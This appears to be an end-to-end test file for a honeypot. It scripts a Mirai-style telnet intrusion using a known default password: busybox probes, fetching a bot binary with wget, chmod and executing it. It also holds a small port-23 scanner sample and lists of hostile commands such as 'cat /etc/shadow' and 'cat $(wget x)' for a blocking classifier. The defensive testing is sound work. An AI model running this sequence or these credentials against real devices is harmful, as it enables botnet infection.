/**
 * Acceptance 1 of issue 6: a scripted attacker over real telnet runs a Mirai-style sequence; the sample
 * is captured, sandboxed and labelled; read-only commands are answered by a device stand-in in its own
 * network namespace through the TLS frame tunnel (scrubbed); blocked commands never reach it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Honeypot } from '../../src/honeypot/honeypot.js';
import { startTelnet } from '../../src/honeypot/services/telnet.js';
import { EveLog } from '../../src/honeypot/eve.js';
import {
  GatewayServer,
  RelayClient,
  RelayGate,
  selfSignedCert,
  classifyCommand,
  type Registration,
} from '../../src/honeypot/relay/index.js';
import { Pseudonymiser, checkPrivacy } from '../../src/dataset/index.js';
import { analyzeSample, sandboxAvailable, type BehaviourReport } from '../../src/sandbox/index.js';
import { LineClient, fileServer, tempDir } from './helpers.js';

const BOT_C = `
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <fcntl.h>
int main(void) {
  char ip[32];
  for (int i = 1; i <= 12; i++) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a; memset(&a, 0, sizeof a);
    a.sin_family = AF_INET; a.sin_port = htons(23);
    snprintf(ip, sizeof ip, "198.51.100.%d", i); inet_pton(AF_INET, ip, &a.sin_addr);
    fcntl(s, F_SETFL, O_NONBLOCK); connect(s, (struct sockaddr *)&a, sizeof a); close(s);
  }
  return 0;
}
`;

test('classification: read-only passes, every other class is blocked', () => {
  for (const l of ['uname -a', 'cat /proc/cpuinfo', 'ps | grep x', 'ifconfig'])
    assert.equal(classifyCommand(l).cls, 'read-only', l);
  const blocked: Array<[string, string]> = [
    ['wget http://x/y', 'network'],
    ['chmod 777 .b', 'write'],
    ['./.b telnet', 'execute'],
    ['echo x > /tmp/f', 'write'],
    ['/bin/busybox ECCHI', 'execute'],
    ['enable', 'config'],
    ['cat /etc/shadow', 'config'],
    ['frobnicate', 'unknown'],
    ['cat $(wget x)', 'execute'],
    ["echo -ne '\\x7f' ", 'write'],
  ];
  for (const [l, cls] of blocked) assert.equal(classifyCommand(l).cls, cls, l);
});

test('e2e: Mirai-style telnet session through the relay to a device stand-in, sample sandboxed', async (t) => {
  if (process.getuid?.() !== 0) return t.skip('needs root for the device namespace');
  const id = randomBytes(2).toString('hex');
  const ns = `moat-hp-${id}`;
  const third = 100 + (parseInt(id, 16) % 150);
  const hostIp = `10.79.${third}.1`;
  const devIp = `10.79.${third}.2`;
  const work = tempDir('e2e');
  const deviceLog = join(work, 'device.log');
  writeFileSync(deviceLog, '');
  let device: ChildProcess | undefined;
  const cleanups: Array<() => Promise<void> | void> = [];
  try {
    execFileSync('ip', ['netns', 'add', ns]);
    cleanups.push(() => void execFileSync('ip', ['netns', 'del', ns]));
    execFileSync('ip', ['link', 'add', `${ns}h`, 'type', 'veth', 'peer', 'name', `${ns}d`]);
    cleanups.push(() => {
      try {
        execFileSync('ip', ['link', 'del', `${ns}h`], { stdio: 'ignore' });
      } catch {
        /* removed with the namespace */
      }
    });
    execFileSync('ip', ['link', 'set', `${ns}d`, 'netns', ns]);
    execFileSync('ip', ['addr', 'add', `${hostIp}/30`, 'dev', `${ns}h`]);
    execFileSync('ip', ['link', 'set', `${ns}h`, 'up']);
    execFileSync('ip', ['-n', ns, 'addr', 'add', `${devIp}/30`, 'dev', `${ns}d`]);
    execFileSync('ip', ['-n', ns, 'link', 'set', `${ns}d`, 'up']);
    execFileSync('ip', ['-n', ns, 'link', 'set', 'lo', 'up']);
    const standin = fileURLToPath(new URL('../../src/honeypot/relay/device-standin.js', import.meta.url));
    device = spawn('ip', ['netns', 'exec', ns, process.execPath, standin, '2323', deviceLog, devIp], {
      detached: true,
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const dev = device;
    cleanups.push(() => {
      if (dev.pid && dev.exitCode === null) process.kill(-dev.pid, 'SIGKILL');
    });
    await new Promise<void>((resolve, reject) => {
      dev.stdout!.once('data', () => resolve());
      dev.once('exit', () => reject(new Error('device stand-in exited')));
    });

    // the IoT gateway end and the honeypot end of the dedicated protocol
    const cert = selfSignedCert();
    const psk = randomBytes(32);
    const registrations: Registration[] = [];
    const gw = new GatewayServer(
      cert,
      psk,
      [{ name: 'cam-1', protocol: 'shell', host: devIp, port: 2323 }],
      (r) => void registrations.push(r),
    );
    const gwPort = await gw.listen(0);
    cleanups.push(() => gw.close());
    const intruder = new RelayClient('intruder', randomBytes(32), cert.fingerprint256);
    await assert.rejects(intruder.connect(gwPort), /refused registration/);
    intruder.close();
    const relay = new RelayClient('hp-test', psk, cert.fingerprint256);
    await relay.connect(gwPort);
    cleanups.push(() => relay.close());
    assert.deepEqual(
      registrations.map((r) => r.accepted),
      [false, true],
    );

    // the sample server (the "loader") on loopback
    const src = join(mkdtempSync(join(tmpdir(), 'moat-hp-bot-')), 'bot.c');
    writeFileSync(src, BOT_C);
    let sample: Buffer;
    try {
      execFileSync('gcc', ['-O1', '-o', src.replace(/\.c$/, ''), src], { stdio: 'pipe' });
      sample = readFileSync(src.replace(/\.c$/, ''));
    } catch {
      sample = Buffer.from('#!/bin/sh\nwget http://update.example.net/x\n');
    }
    const files = await fileServer({ '/bins/bot.x86': sample });
    cleanups.push(() => files.close());

    const pseudonyms = new Pseudonymiser(randomBytes(32));
    const gates: RelayGate[] = [];
    const reports: Array<Promise<BehaviourReport>> = [];
    const eve = new EveLog(null);
    const hp = new Honeypot({
      quarantineDir: join(work, 'quarantine'),
      scope: [`127.0.0.1/32:${files.port}`],
      eve,
      gateFor: () => {
        const g = new RelayGate(relay, pseudonyms, ['cam-frontdoor']);
        gates.push(g);
        return g;
      },
      onSample: (s) =>
        void reports.push(
          analyzeSample(
            readFileSync(s.quarantine),
            { timeoutSeconds: 5, onEvent: (e) => eve.write(e) },
            s.source,
          ),
        ),
    });
    const svc = await startTelnet(hp, 0, '127.0.0.1');
    cleanups.push(() => svc.close());

    const c = await LineClient.open(svc.port());
    cleanups.push(() => c.close());
    await c.until('login: ');
    c.send('root');
    await c.until('Password: ');
    c.send('xc3511');
    await c.until('# ');
    const outputs: Record<string, string> = {};
    const script = [
      'enable',
      'system',
      'shell',
      'sh',
      '/bin/busybox ECCHI',
      'uname -a',
      'cat /proc/cpuinfo',
      'ifconfig',
      'cat /etc/device.conf',
      'cd /tmp || cd /var/run',
      `/bin/busybox wget http://127.0.0.1:${files.port}/bins/bot.x86 -O .b`,
      'chmod 777 .b',
      './.b telnet.x86',
      "echo -ne '\\x7f\\x45\\x4c\\x46' > .e",
      'rm -f .b',
    ];
    for (const line of script) {
      c.send(line);
      outputs[line] = await c.until('# ');
    }
    c.send('exit');
    await new Promise((r) => c.socket.once('close', r));

    assert.match(outputs['/bin/busybox ECCHI'], /ECCHI: applet not found/);
    // read-only commands were answered by the real device, scrubbed
    assert.match(outputs['uname -a'], /armv7l GNU\/Linux/);
    assert.match(outputs['uname -a'], /3\.18\.20/, 'the device answered, not the emulator');
    assert.ok(!outputs['uname -a'].includes('cam-frontdoor'));
    assert.ok(!outputs['cat /proc/cpuinfo'].includes('HX3518E0021937'));
    assert.ok(
      !outputs['ifconfig'].includes('3C:EF:8C:11:22:33') && !outputs['ifconfig'].includes('192.168.7.41'),
    );
    assert.ok(!/frontdoor2023|jane\.doe/.test(outputs['cat /etc/device.conf']));
    assert.deepEqual(
      checkPrivacy(Object.values(outputs).join('\n'), pseudonyms).filter(
        (f) => f.kind !== 'ipv4' || f.value !== '127.0.0.1',
      ),
      [],
    );

    // blocked commands never reached the device: it saw exactly the read-only lines
    const seen = readFileSync(deviceLog, 'utf8').split('\n').filter(Boolean);
    assert.deepEqual(seen, ['uname -a', 'cat /proc/cpuinfo', 'ifconfig', 'cat /etc/device.conf']);
    assert.equal(gw.forwarded, 4);
    const routes = gates[0].decisions.map((d) => `${d.route}:${d.line}`);
    assert.ok(routes.includes('blocked:./.b telnet.x86') && routes.includes('blocked:chmod 777 .b'));

    // the sample was captured and sandboxed
    assert.equal(files.hits.length, 1);
    const rec = (hp.sessions.size === 0 ? eve.events : []).filter(
      (e) => e.event_type === 'honeypot' && (e.honeypot as { action: string }).action === 'sample',
    );
    assert.ok(rec.length >= 1);
    const all = await Promise.all(reports);
    const bot = all.find((r) => r.static.size === sample.length)!;
    assert.ok(bot, 'downloaded sample analysed');
    if (!sandboxAvailable() && bot.static.elf)
      assert.ok(bot.labels.includes('scanner'), `labels ${bot.labels}`);
    assert.ok(eve.events.some((e) => e.event_type === 'sandbox'));
    assert.ok(existsSync(join(work, 'quarantine')));
  } finally {
    for (const f of cleanups.reverse()) {
      try {
        await f();
      } catch {
        /* best effort */
      }
    }
  }
  assert.ok(!execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' }).includes(ns));
});
